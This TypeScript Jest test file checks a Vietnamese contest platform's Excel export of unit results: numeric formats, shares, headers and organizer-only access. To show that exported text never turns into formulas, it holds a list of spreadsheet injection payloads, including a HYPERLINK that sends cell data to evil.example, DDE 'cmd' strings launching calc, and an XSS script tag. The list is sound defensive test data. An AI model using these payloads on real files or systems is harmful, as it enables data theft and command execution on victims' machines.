import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import exceljs, { type Worksheet } from 'exceljs';
import type { DataSource } from 'typeorm';
import { FixedClock } from '#platform';
import {
  ContestReader,
  TallyService,
  UnitRankingService,
  UnitTableService,
  UnitTrendService,
  WorkbookService,
  type Viewer,
} from '#results';
import { createTestDatabase, type TestDatabase } from '../../support/database.js';
import { connect, insertContest, insertGradedAttempts, insertParticipants, OPENING } from '../../support/insert.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Xã Nghi Lộc")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|A0',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  // Not followed by "amp;": exceljs reads that back wrongly, though it writes it right.
  '"><script>alert(1)</script>&',
  '_x003D_1+1',
  'Xã \u0000\u0007 Diễn Đồng',
];

let database: TestDatabase;
let db: DataSource;

beforeAll(async () => {
  database = await createTestDatabase();
  db = await connect(database.appUrl);
});

afterAll(async () => {
  await db?.destroy();
  await database?.drop();
});

const organizer: Viewer = {
  accountId: '00000000-0000-7000-8000-000000000001',
  roles: [{ role: 'organizer', contestId: null, contestUnitId: null }],
};

const service = () => {
  const tables = new UnitTableService(
    db,
    new ContestReader(db),
    new UnitRankingService(db, new FixedClock(OPENING)),
    new FixedClock(OPENING),
  );
  return new WorkbookService(tables, new UnitTrendService(db, tables));
};

async function sheets(bytes: Buffer): Promise<{ units: Worksheet; summary: Worksheet }> {
  const book = new exceljs.Workbook();
  await book.xlsx.load(bytes as never);
  const units = book.getWorksheet('Bảng đơn vị');
  const summary = book.getWorksheet('Tổng hợp');
  return { units: units!, summary: summary! };
}

/** Row of a unit by its name, its cells by column title. */
function lineOf(sheet: Worksheet, name: string) {
  const titles = (sheet.getRow(4).values as string[]).slice(1);
  for (let n = 5; n <= sheet.rowCount; n++) {
    if (sheet.getRow(n).getCell(3).value === name) {
      return Object.fromEntries(titles.map((title, i) => [title, sheet.getRow(n).getCell(i + 1)]));
    }
  }
  throw new Error(`no line for ${name}`);
}

describe('the unit table as an Excel file', () => {
  it('has real numbers, real shares with their counts beside, and a header that stays', async () => {
    const contest = await insertContest(db, {
      title: 'Cải cách hành chính 2026',
      units: [{ name: 'Xã Diễn Mỹ', headcount: 222 }, { name: 'Sở Nội vụ', headcount: null }, { name: 'Xã Im Lặng' }],
    });
    const people = await insertParticipants(
      db,
      contest,
      Array.from({ length: 182 }, () => ({ unit: 0 })),
    );
    const ids = await insertGradedAttempts(
      db,
      contest,
      people.map((person, i) => ({ person, score: i % 4 === 0 ? 15_000 : 7_500 })),
    );
    await db.transaction((manager) => new TallyService().apply(manager, contest.id, ids));
    const file = await service().unitTable(contest.slug, { scope: 'contest' }, organizer);
    expect(file.name).toBe('Bảng đơn vị - Cải cách hành chính 2026 - Toàn cuộc thi.xlsx');
    const { units, summary } = await sheets(file.bytes);

    const line = lineOf(units, 'Xã Diễn Mỹ');
    expect(line['Số lượt thi']!.value).toBe(182);
    expect(line['Số lượt thi']!.numFmt).toBe('#,##0');
    expect(line['Số người của đơn vị']!.value).toBe(222);
    expect(line['Tỷ lệ người tham gia']!.value).toBeCloseTo(182 / 222, 12);
    expect(line['Tỷ lệ người tham gia']!.numFmt).toBe('0.00%');
    expect(line['Lượt thi đạt điểm tối đa']!.value).toBe(46);
    expect(line['Tỷ lệ lượt đạt điểm tối đa']!.value).toBeCloseTo(46 / 182, 12);
    expect(line['Điểm trung bình lượt được tính']!.value).toBe(9.396);
    expect(line['Điểm trung bình lượt được tính']!.numFmt).toBe('0.00');
    // No head-count and no attempts: an empty cell, never 0 %.
    expect(lineOf(units, 'Sở Nội vụ')['Tỷ lệ người tham gia']!.value).toBeNull();
    expect(lineOf(units, 'Xã Im Lặng')['Điểm trung bình lượt được tính']!.value).toBeNull();
    expect(lineOf(units, 'Xã Im Lặng')['Tham gia']!.value).toBe('Chưa tham gia');

    expect(units.views).toMatchObject([{ state: 'frozen', ySplit: 4, xSplit: 3 }]);
    expect(units.autoFilter).toBe('A4:Q4');
    expect(units.getColumn(3).width).toBe(40);
    expect(units.getCell('A1').value).toBe('Cải cách hành chính 2026');
    expect(summary.getCell('A3').value).toBe(
      'có 1/3 đơn vị, địa phương tham gia (chiếm tỷ lệ 33,33%); có 182 lượt thi, trong đó có 46 lượt thi đạt điểm tối đa (15/15 điểm) (chiếm tỷ lệ 25,27%)',
    );
    const total = summary.getRow(summary.rowCount);
    expect([1, 3, 4, 5, 6, 8].map((column) => total.getCell(column).value)).toEqual(['Tổng cộng', 3, 1, 2, 1 / 3, 182]);
  });

  it('keeps every text a text, whatever it begins with', async () => {
    const contest = await insertContest(db, {
      title: '=1+1',
      units: HOSTILE.map((name, i) => ({
        name: name.replaceAll('\u0000', '\u0001'),
        level: name.replace('\u0000', ''),
        code: `=U${i}`,
      })),
    });
    const { units, summary } = await sheets(
      (await service().unitTable(contest.slug, { scope: 'contest' }, organizer)).bytes,
    );
    const names: unknown[] = [];
    for (const sheet of [units, summary]) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([cell.address, cell.type]).not.toEqual([cell.address, exceljs.ValueType.Formula]);
          expect(cell.formula).toBeUndefined();
          expect(cell.hyperlink).toBeUndefined();
          if (typeof cell.value === 'string') expect([cell.address, cell.numFmt]).toEqual([cell.address, '@']);
        }),
      );
    }
    for (let n = 5; n <= units.rowCount; n++) names.push(units.getRow(n).getCell(3).value);
    expect(units.getCell('A1').value).toBe('=1+1');
    expect(names.sort()).toEqual(
      [
        '=HYPERLINK("http://evil.example/?"&A1,"Xã Nghi Lộc")',
        "+cmd|' /C calc'!A0",
        '-2+3+cmd|A0',
        '@SUM(1+1)*cmd|A0',
        ' =1+1',
        ' =1+1',
        '＝1+1',
        '"><script>alert(1)</script>&',
        '_x003D_1+1',
        'Xã    Diễn Đồng',
      ].sort(),
    );
  });

  it('is for those who run the contest', async () => {
    const { id, slug, unitIds } = await insertContest(db);
    for (const roles of [
      [],
      [{ role: 'unit_manager', contestId: id, contestUnitId: unitIds[0]! }],
      [{ role: 'organizer', contestId: id + 1, contestUnitId: null }],
    ]) {
      const who = { ...organizer, roles };
      await expect(service().unitTable(slug, { scope: 'contest' }, who)).rejects.toMatchObject({ code: 'NOT_ALLOWED' });
    }
  });
});
